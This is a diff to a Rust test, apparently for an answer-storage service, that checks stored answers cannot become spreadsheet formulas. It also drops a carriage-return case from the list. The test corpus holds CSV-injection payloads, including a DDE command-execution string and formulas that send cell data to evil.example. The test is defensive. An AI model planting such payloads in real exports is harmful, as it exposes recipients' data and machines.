@@ -112,11 +112,12 @@ on_every_database! {
 
     async fn no_answer_becomes_a_formula(place: Place) {
         let service = place.open().await;
-        // After OWASP's page on CSV injection and the payloads that circulate with it.
+        // After OWASP's page on CSV injection and the payloads that circulate with it. A carriage return is
+        // never stored: an answer's lines end in one way, or it is refused.
         let corpus = [
             "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example?x=\"&A1,\"go\")",
             "=IMPORTXML(CONCAT(\"http://evil.example?\",A1),\"//a\")", "＝1+1", "＋1+1", "－1+1", "＠SUM(1,1)",
-            "\u{feff}=1+1", "\u{200b}=1+1", "x\n=1+1", "x\r=1+1", "x\t=1+1", "x;=1+1", "x; @SUM(1,1)", "\"=1+1", "x\";=1+1;\"",
+            "\u{feff}=1+1", "\u{200b}=1+1", "x\n=1+1", "x\t=1+1", "x;=1+1", "x; @SUM(1,1)", "\"=1+1", "x\";=1+1;\"",
             "=1+1\",\"=2+2",
         ];
         for payload in corpus {
